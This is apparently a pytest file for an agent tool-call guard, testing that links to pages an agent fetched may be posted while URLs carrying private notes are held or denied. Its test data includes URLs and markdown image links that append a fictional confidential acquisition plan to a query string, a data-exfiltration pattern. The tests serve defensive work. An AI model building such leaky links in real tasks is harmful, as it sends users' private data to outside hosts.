"""A URL an earlier call of the session requested carries nothing new to its host.

The link-to-a-page-the-agent-fetched case: every page names its own site, so a link to the
page (in a chat post, a note) would otherwise read as session data appended to a host named
by untrusted content. Only URLs that actually went out (allowed or approved calls) count;
held, denied and merely similar URLs are judged as before.
"""

from __future__ import annotations

from typing import Any

from toolguard import Call, Guard
from toolguard.manifest import manifest_from_dict
from toolguard.session import REQUESTED_MAX, Session

FETCH = {
    "tool": "fetch_url",
    "side_effect": "read",
    "arguments": {"type": "object", "properties": {"url": {"type": "string"}}, "required": ["url"], "additionalProperties": False},
    "destinations": [{"arg": "/url", "kind": "url"}],
}
POST = {
    "tool": "post",
    "side_effect": "external_write",
    "arguments": {
        "type": "object",
        "properties": {"channel": {"type": "string"}, "text": {"type": "string"}},
        "required": ["channel", "text"],
        "additionalProperties": False,
    },
    "destinations": [
        {"arg": "/channel", "kind": "channel", "allow": ["#research"]},
        {"arg": "/text", "kind": "markdown"},
    ],
    "payload": ["/text"],
}
READ_NOTES = {
    "tool": "read_notes",
    "side_effect": "read",
    "arguments": {"type": "object", "properties": {}, "additionalProperties": False},
    "output": {"trust": "trusted", "labels": ["private"]},
}

PAGE_URL = "https://www.energy-review.example/2026/solid-state-density"
PAGE = (
    "Solid-state density reaches new highs. Energy Review, www.energy-review.example. "
    "Images: https://cdn.energy-review.example/img/cell.png. Subscribe at https://www.energy-review.example/subscribe."
)
SECRET = "Q4 plan: acquire Northwind Batteries for 41M, board vote on 2026-12-03, codename BLUEFINCH"


def guard_and_session() -> tuple[Guard, Session]:
    guard = Guard([manifest_from_dict(FETCH), manifest_from_dict(POST), manifest_from_dict(READ_NOTES)])
    session = guard.session("alice", "s")
    session.add_user_text("Read the energy-review piece on solid-state density and post the link with a summary in #research.")
    return guard, session


def run(guard: Guard, session: Session, tool: str, args: dict[str, Any], output: str = "ok", call_id: str = "c") -> str:
    outcome = guard.run(session, Call(tool=tool, args=args, id=call_id), lambda _: output)
    return outcome.status


def test_a_link_to_a_page_the_agent_fetched_is_allowed() -> None:
    guard, s = guard_and_session()
    assert run(guard, s, "fetch_url", {"url": PAGE_URL}, PAGE, "c1") == "executed"
    text = f"Density is up 20% on last year. [energy-review]({PAGE_URL})"
    decision = guard.decide(Call(tool="post", args={"channel": "#research", "text": text}, id="c2"), s)
    assert decision.verdict == "allow", decision.codes


def test_without_the_fetch_the_same_link_is_judged_as_before() -> None:
    """Control: the page's host is named by untrusted content, the path is not: not allowed."""
    guard, s = guard_and_session()
    s.add_tool_output(call_id="c0", tool="fetch_url", text=PAGE, trusted=False)
    text = f"Density is up 20% on last year. [energy-review]({PAGE_URL})"
    decision = guard.decide(Call(tool="post", args={"channel": "#research", "text": text}, id="c2"), s)
    assert decision.verdict != "allow"


def test_a_held_url_is_not_remembered() -> None:
    """A URL that carried private data was held: it never went out, so repeating it is held again."""
    guard, s = guard_and_session()
    assert run(guard, s, "read_notes", {}, SECRET, "c1") == "executed"
    assert run(guard, s, "fetch_url", {"url": PAGE_URL}, PAGE, "c2") == "executed"
    leaky = "https://www.energy-review.example/search?q=" + SECRET.replace(" ", "+")
    first = guard.decide(Call(tool="fetch_url", args={"url": leaky}, id="c3"), s)
    assert first.verdict != "allow"
    assert run(guard, s, "fetch_url", {"url": leaky}, "results", "c3") != "executed"
    again = guard.decide(Call(tool="post", args={"channel": "#research", "text": f"see ![x]({leaky})"}, id="c4"), s)
    assert again.verdict == "deny" and "markdown.remote_resource" in again.codes


def test_only_the_identical_url_counts() -> None:
    """The same host and path with other data in the query is judged afresh."""
    guard, s = guard_and_session()
    assert run(guard, s, "read_notes", {}, SECRET, "c1") == "executed"
    assert run(guard, s, "fetch_url", {"url": PAGE_URL}, PAGE, "c2") == "executed"
    other = PAGE_URL + "?ref=" + SECRET.replace(" ", "+")
    decision = guard.decide(Call(tool="post", args={"channel": "#research", "text": f"![x]({other})"}, id="c3"), s)
    assert decision.verdict == "deny" and "markdown.remote_resource" in decision.codes


def test_the_memory_is_bounded_and_keeps_the_most_recent() -> None:
    s = Session("alice", "s")
    s.add_requested(f"https://a.example/{i}" for i in range(REQUESTED_MAX + 10))
    s.add_requested(["https://a.example/10"])  # requested again: moves to the newest end
    view = s.view()
    assert len(view.requested) == REQUESTED_MAX
    assert "https://a.example/0" not in view.requested
    assert "https://a.example/10" in view.requested
    assert f"https://a.example/{REQUESTED_MAX + 9}" in view.requested
    s.add_requested(f"https://b.example/{i}" for i in range(REQUESTED_MAX - 1))
    assert "https://a.example/10" in s.view().requested
    assert "https://a.example/11" not in s.view().requested
